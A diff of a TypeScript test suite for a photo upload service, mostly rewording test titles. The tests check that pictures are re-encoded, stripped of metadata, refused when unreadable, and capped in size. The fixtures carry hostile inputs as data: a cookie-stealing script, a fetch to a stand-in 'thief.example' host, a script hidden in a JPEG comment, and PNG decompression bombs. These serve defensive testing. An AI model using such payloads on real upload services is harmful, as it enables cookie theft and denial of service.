@@ -38,25 +38,28 @@ const spliced = (whole: Buffer, at: number, part: Buffer) =>
   Buffer.concat([whole.subarray(0, at), part, whole.subarray(at)])
 
 describe('a picture', () => {
-  test.each(['jpeg', 'png', 'webp'] as const)('as %s becomes a JPEG named by the hash of its bytes', async (format) => {
-    const { hash, bytes, width, height } = await drawn(await blank(640, 480).toFormat(format).toBuffer())
-    expect(await sharp(bytes.full).metadata()).toMatchObject({ format: 'jpeg', width: 640, height: 480 })
-    expect([width, height]).toEqual([640, 480])
-    expect(hash).toEqual(createHash('sha256').update(bytes.full).digest())
-  })
+  test.each(['jpeg', 'png', 'webp'] as const)(
+    'a %s picture becomes a JPEG named by the hash of its bytes',
+    async (format) => {
+      const { hash, bytes, width, height } = await drawn(await blank(640, 480).toFormat(format).toBuffer())
+      expect(await sharp(bytes.full).metadata()).toMatchObject({ format: 'jpeg', width: 640, height: 480 })
+      expect([width, height]).toEqual([640, 480])
+      expect(hash).toEqual(createHash('sha256').update(bytes.full).digest())
+    },
+  )
 
-  test('that is large is made smaller with the same proportions, and has a small square version', async () => {
+  test('a large picture is made smaller with the same proportions, and has a small square version', async () => {
     const { bytes, width, height } = await drawn(await blank(4000, 1000).jpeg().toBuffer())
     expect([width, height]).toEqual([1600, 400])
     expect(await sharp(bytes.thumb).metadata()).toMatchObject({ format: 'jpeg', width: 160, height: 160 })
   })
 
-  test('taken with a phone on its side is turned upright', async () => {
+  test('a picture taken with a phone on its side is turned upright', async () => {
     const lying = await blank(640, 480).withMetadata({ orientation: 6 }).jpeg().toBuffer()
     expect(await drawn(lying)).toMatchObject({ width: 480, height: 640 })
   })
 
-  test('keeps no metadata that says where, when and with which camera it was taken', async () => {
+  test('a picture keeps no metadata that says where, when and with which camera it was taken', async () => {
     const told = await blank(640, 480)
       .withExif({ IFD0: { Model: 'A telephone' }, IFD3: { GPSLatitude: '29/1 45/1 0/1' } })
       .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret/></x:xmpmeta>')
@@ -69,35 +72,35 @@ describe('a picture', () => {
     }
   })
 
-  test('with a transparent background gets a white background', async () => {
+  test('a picture with a transparent background gets a white background', async () => {
     const clear = sharp({ create: { width: 20, height: 20, channels: 4, background: '#0000' } })
     const { bytes } = await drawn(await clear.png().toBuffer())
     const { channels } = await sharp(bytes.full).stats()
     expect(channels.map(({ min }) => min)).toEqual([255, 255, 255])
   })
 
-  test('that is sent twice gets the same hash', async () => {
+  test('a picture that is sent twice gets the same hash', async () => {
     const bytes = await photo()
     expect((await drawn(bytes)).hash).toEqual((await drawn(bytes)).hash)
   })
 
-  test('of the largest allowed size is drawn', { timeout: 30_000 }, async () => {
+  test('a picture of the largest allowed size is drawn', { timeout: 30_000 }, async () => {
     const side = Math.floor(Math.sqrt(MAX_MEGAPIXELS * 1e6))
     expect(await drawn(await blank(side, side).jpeg().toBuffer())).toMatchObject({ width: 1600, height: 1600 })
   })
 })
 
-describe('anything added to the file of a picture is removed:', () => {
+describe('data added to the file of a picture', () => {
   test.each([
     ['a web page', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
     ['a script', Buffer.from('*/=1;fetch("https://thief.example");/*')],
     ['an archive', Buffer.from('PK\x03\x04 payload PK\x05\x06', 'latin1')],
-  ])('%s', async (_, tail) => {
+  ])('data at the end of the file of a picture is removed: %s', async (_, tail) => {
     const { bytes } = await drawn(Buffer.concat([await photo(), tail]))
     for (const kept of Object.values(bytes)) expect(kept.includes(tail)).toBe(false)
   })
 
-  test('a script in a comment of the picture', async () => {
+  test('a script in a comment of the picture is removed', async () => {
     const script = Buffer.from('*/alert(1)/*')
     const comment = Buffer.concat([Buffer.of(0xff, 0xfe, 0, script.length + 2), script])
     const { bytes } = await drawn(spliced(await photo(), 2, comment))
@@ -105,7 +108,7 @@ describe('anything added to the file of a picture is removed:', () => {
   })
 })
 
-describe('refused because it is not a photo:', () => {
+describe('an upload that is not a photo', () => {
   const svg = Buffer.from(
     '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
   )
@@ -127,13 +130,13 @@ describe('refused because it is not a photo:', () => {
     ],
     ['a JPEG with a script before its first part', async () => spliced(await photo(), 2, Buffer.from('*/alert(1)/*'))],
     ['random bytes', () => randomBytes(2_000)],
-  ])('%s', async (_, make) => {
+  ])('an upload that cannot be used as a photo is refused: %s', async (_, make) => {
     const { code, message } = await refused(await make())
     expect(code).toBe('photo.unreadable')
     expect(message).toBe('face.jpg cannot be used as a photo. Take a JPEG, PNG or WebP picture.')
   })
 
-  test('a picture whose text is not exact base64, although a lenient decoder would accept it', async () => {
+  test('a picture whose text is not exact base64 is refused, although a lenient decoder would accept the text', async () => {
     const { data } = uploadOf(await photo())
     const urlSafe = `${data.slice(0, 40)}-${data.slice(41)}`
     for (const broken of [
@@ -145,13 +148,13 @@ describe('refused because it is not a photo:', () => {
       expect((await refused(broken)).code).toBe('photo.unreadable')
   })
 
-  test('an empty file', async () => {
+  test('an empty file is refused', async () => {
     expect((await refused('')).code).toBe('photo.unreadable')
   })
 })
 
-describe('refused as too large:', () => {
-  test('a small file whose picture would fill the memory when unpacked', async () => {
+describe('an upload that is too large', () => {
+  test('a small file whose picture would fill the memory is refused without being unpacked', async () => {
     const bomb = pngBomb(40_000, 40_000)
     expect(bomb.length).toBeLessThan(300_000)
     const { code, message } = await refused(bomb)
@@ -164,7 +167,7 @@ describe('refused as too large:', () => {
     expect(process.memoryUsage.rss() - before).toBeLessThan(100e6)
   })
 
-  test('a very long picture with a single column or a single row of pixels', async () => {
+  test('a very long picture with a single column or a single row of pixels is refused', async () => {
     const { code, message } = await refused(pngBomb(1, 2_000_000))
     expect([code, message]).toEqual([
       'photo.tooLarge',
@@ -173,7 +176,7 @@ describe('refused as too large:', () => {
     expect((await refused(pngBomb(2_000_000, 1))).code).toBe('photo.tooLarge')
   })
 
-  test('a file of 40 MB', async () => {
+  test('a file of 40 MB is refused', async () => {
     const { code, message } = await refused(Buffer.concat([await photo(), Buffer.alloc(40e6)]))
     expect([code, message]).toEqual([
       'photo.tooLarge',
@@ -181,7 +184,7 @@ describe('refused as too large:', () => {
     ])
   })
 
-  test('a file one byte over the limit, but not one at the limit', async () => {
+  test('a file that is one byte over the limit is refused, and a file at the limit is accepted', async () => {
     const whole = await photo()
     const filled = (length: number) => Buffer.concat([whole, Buffer.alloc(length - whole.length)])
     expect((await refused(filled(MAX_PHOTO_BYTES + 1))).code).toBe('photo.tooLarge')
@@ -189,7 +192,7 @@ describe('refused as too large:', () => {
   })
 })
 
-test('of many pictures sent at once, two are drawn at a time, or one on a machine with one or two cores', async () => {
+test('of many pictures sent at once, two are drawn at a time, or one at a time on a machine with one or two cores', async () => {
   const large = await blank(3000, 2000).jpeg().toBuffer()
   let most = 0
   const watch = setInterval(() => (most = Math.max(most, drawing.running)), 1)
@@ -198,7 +201,7 @@ test('of many pictures sent at once, two are drawn at a time, or one on a machin
   expect(most).toBe(Math.min(2, Math.max(1, availableParallelism() - 1)))
 })
 
-test('when a client leaves while other pictures are drawn, its picture leaves the line and is not drawn', async () => {
+test('when a client disconnects while other pictures are drawn, the client’s picture leaves the line and is not drawn', async () => {
   const large = await blank(3000, 2000).jpeg().toBuffer()
   let done = 0
   const others = [drawn(large), drawn(large)].map((drawing) => drawing.finally(() => (done += 1)))
@@ -219,7 +222,7 @@ test('the message about an upload without a file name begins with "The file"', a
 })
 
 describe('before a picture is read', () => {
-  test('the format is recognized by the first bytes, not by the name', async () => {
+  test('the first bytes of a file tell whether the file is a JPEG, PNG or WebP', async () => {
     expect(beginsLikePicture(await photo())).toBe(true)
     expect(beginsLikePicture(await blank(9, 9).png().toBuffer())).toBe(true)
     expect(beginsLikePicture(await blank(9, 9).webp().toBuffer())).toBe(true)
